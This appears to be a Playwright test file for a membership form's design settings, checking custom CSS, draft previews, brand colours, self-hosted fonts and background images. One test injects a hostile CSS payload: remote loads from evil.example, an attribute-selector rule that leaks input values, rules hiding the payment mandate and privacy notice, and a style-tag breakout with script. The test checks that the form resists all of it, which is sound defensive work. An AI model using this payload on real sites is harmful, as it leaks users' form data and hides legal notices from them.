import { AxeBuilder } from '@axe-core/playwright';
import type { Page } from '@playwright/test';
import { type App, expect, test } from '../fixtures/app';
import { postDesign, readDesign, tokenOf } from './design-api';
import { signIn } from './sign-in';

const form = '/f/demo/membership';

/** Records requests to other origins, and violations of the content security policy. */
function listenForEscapes(page: Page, { baseURL }: App): string[] {
  const escapes: string[] = [];
  page.on('request', request => {
    const isOwn = request.url().startsWith(`${baseURL}/`) || request.url().startsWith('data:');
    if (!isOwn) escapes.push(request.url());
  });
  page.on('console', message => {
    if (/Content Security Policy/i.test(message.text())) escapes.push(message.text());
  });
  return escapes;
}

const styleOf = (page: Page, selector: string, property: string) =>
  page
    .locator(selector)
    .first()
    .evaluate((element, name) => getComputedStyle(element).getPropertyValue(name), property);

/** Whether a part, once scrolled into view, is not covered at its centre. */
async function isOnTop(page: Page, selector: string): Promise<boolean> {
  const part = page.locator(selector).first();
  await part.evaluate(element => element.scrollIntoView({ block: 'center', behavior: 'instant' }));
  return part.evaluate(element => {
    const { left, top, width, height } = element.getBoundingClientRect();
    const found = document.elementFromPoint(left + width / 2, top + height / 2);
    return width > 0 && height > 0 && element.contains(found);
  });
}

let original: object;
test.beforeEach(async ({ request }) => {
  original = await readDesign(request);
});
test.afterEach(({ request }) => postDesign(request, original));

test.describe('additional CSS', () => {
  test('changes colours and corners of the form', async ({ page, request }) => {
    const additionalCss = ':root{--accent:#a30262;--radius:3px}\nh1{color:#a30262;font-family:Georgia,serif}';
    await postDesign(request, { additionalCss });
    await page.goto(form);
    await expect(page.locator('h1')).toHaveCSS('color', 'rgb(163, 2, 98)');
    await expect(page.locator('.foot .primary').first()).toHaveCSS('background-color', 'rgb(163, 2, 98)');
    expect(await styleOf(page, '.option', 'border-radius')).toBe('3px');
    expect(await styleOf(page, 'body', 'font-family')).not.toContain('Georgia');
  });

  test('leaves prices and errors on the ground of their card', async ({ page, request }) => {
    await postDesign(request, { presetDesign: 'Dark', additionalCss: ':root{--accent:#9cc4ff}' });
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.goto(form);
    await page.locator('[data-live]').waitFor();
    await page.locator('input[name="membershipId"]').first().check();
    const card = await styleOf(page, '.price-card', 'background-color');
    expect(await styleOf(page, '.price-card .price-lines', 'background-color')).toBe(card);
    expect(await styleOf(page, '.price-card .price-sums', 'background-color')).toBe(card);
  });

  test('cannot hide or cover mandate, price and privacy notice, and cannot load anything', async ({
    app,
    page,
    request,
  }) => {
    const escapes = listenForEscapes(page, app);
    const attack = `
      @import url(https://evil.example/x.css);
      @font-face{font-family:x;src:url(https://evil.example/f)}
      *{background:url(https://evil.example/all);color:#fff;background-color:#fff;opacity:0;display:none;
        font-size:1px;box-shadow:0 -24px 0 48px #fff;padding:0 0 96px;border:16px solid #fff}
      input[value^="a"]{background:url(https://evil.example/a)}
      .mandate,.mandate *,.privacy *,.price-sums *,.price-lines *{color:#fff;background:#fff;visibility:hidden}
      .mandate::after,p::before,span::after{content:"";padding:96px;background:#fff;box-shadow:0 0 0 48px #fff}
      body+*,html~*{position:fixed;inset:0;z-index:99999;background:#fff}
      </style><script>alert(1)</script>`;
    await postDesign(request, { additionalCss: attack });
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.goto(form);
    await page.locator('[data-live]').waitFor();
    await page.locator('input[name="membershipId"]').first().check();
    await page.locator('input[name="paymentMethod"][value="SepaDirectDebit"]').check();
    for (const part of ['.mandate p', '.mandate dd', '.privacy label', '.price-sums dd', '.tariffs .aside']) {
      expect(await isOnTop(page, part), part).toBe(true);
      expect(await styleOf(page, part, 'color'), part).not.toBe('rgb(255, 255, 255)');
      expect(Number.parseFloat(await styleOf(page, part, 'font-size')), part).toBeGreaterThanOrEqual(12);
    }
    await page.getByRole('button', { name: 'Angaben prüfen' }).last().click();
    const error = page.locator('.error').first();
    await expect(error).toBeVisible();
    expect(await isOnTop(page, '.error')).toBe(true);
    expect(escapes).toEqual([]);
  });
});

test.describe('the draft of a design', () => {
  test('is shown at ?preview=1 only to its editor', async ({ browser, page, request }) => {
    await postDesign(request, { presetDesign: 'Classic' });
    const before = await readDesign(request);
    await postDesign(request, { presetDesign: 'Dark' }, '?preview=true');
    expect(await readDesign(request)).toEqual(before);
    const scheme = (of: Page) => styleOf(of, ':root', 'color-scheme');

    await signIn(page);
    await page.goto(`${form}?preview=1`);
    expect(await scheme(page)).toBe('dark');
    expect(await page.locator('input[name="formToken"]').inputValue()).toBe('');
    await page.goto(form);
    expect(await scheme(page)).toBe('light');

    const stranger = await browser.newPage();
    await stranger.goto(`${form}?preview=1`);
    expect(await scheme(stranger)).toBe('light');
    expect(await stranger.locator('input[name="formToken"]').inputValue()).not.toBe('');
    await stranger.close();
  });
});

test.describe('the colour of the club', () => {
  const yellow = { presetDesign: 'Classic', brandColor: '#f5d90a', colorScheme: 'Auto' };
  const reset = { brandColor: null, colorScheme: 'Light' };
  test.afterEach(({ request }) => postDesign(request, reset));

  test('is on buttons as it is, and in links where it can be read, in the scheme of the reader', async ({
    page,
    request,
  }) => {
    await postDesign(request, yellow);
    const button = page.locator('.foot .primary').first();
    const link = page.locator('.languages > :not(span)').first();
    await page.goto(form);
    await expect(button).toHaveCSS('background-color', 'rgb(245, 217, 10)');
    await expect(link).toHaveCSS('color', 'rgb(123, 108, 2)');
    await page.emulateMedia({ colorScheme: 'dark' });
    await expect(link).toHaveCSS('color', 'rgb(245, 217, 10)');
    expect(await styleOf(page, ':root', 'color-scheme')).toBe('dark');
    const { violations } = await new AxeBuilder({ page }).analyze();
    expect(violations.map(({ id }) => id)).toEqual([]);
    await page.goto(`${form}?embed=1`);
    expect(await styleOf(page, ':root', 'color-scheme')).toBe('light');
  });
});

test('a font is loaded from our own origin, by forms that use it', async ({ app, page, request }) => {
  const escapes = listenForEscapes(page, app);
  const fonts: string[] = [];
  page.on('response', answer => {
    if (answer.url().endsWith('.woff2'))
      fonts.push(`${answer.status()} ${answer.headers()['cache-control']}`);
  });
  await page.goto(form);
  await page.locator('[data-live]').waitFor();
  expect(fonts).toEqual([]);
  await postDesign(request, { presetDesign: 'Classic', font: 'Figtree' });
  try {
    await page.goto(form);
    await page.evaluate(() => document.fonts.ready);
    expect(await page.evaluate(() => document.fonts.check('16px Figtree'))).toBe(true);
    await expect(page.locator('h1')).toHaveCSS('font-family', /^Figtree, sans-serif, system-ui/);
    expect(new Set(fonts)).toEqual(new Set(['200 public, max-age=31536000, immutable']));
    expect(escapes).toEqual([]);
  } finally {
    await postDesign(request, { font: 'System' });
  }
});

test('a background image is loaded from our own origin', async ({ app, page, request }) => {
  const escapes = listenForEscapes(page, app);
  const headers = { Authorization: `Bearer ${await tokenOf(request)}` };
  const pixel =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
  const put = await request.put('/api/v1/club/form-design/background-image', {
    headers,
    data: { fileName: 'dot.png', contentType: 'image/png', data: pixel },
  });
  const { url: backgroundImageUrl } = await put.json();
  await postDesign(request, { presetDesign: 'Custom', customDesign: { backgroundImageUrl } });
  const loaded = page.waitForResponse(response => response.url().endsWith(backgroundImageUrl));
  await page.goto(form);
  expect((await loaded).status()).toBe(200);
  expect(escapes).toEqual([]);
  await request.delete('/api/v1/club/form-design/background-image', { headers });
});
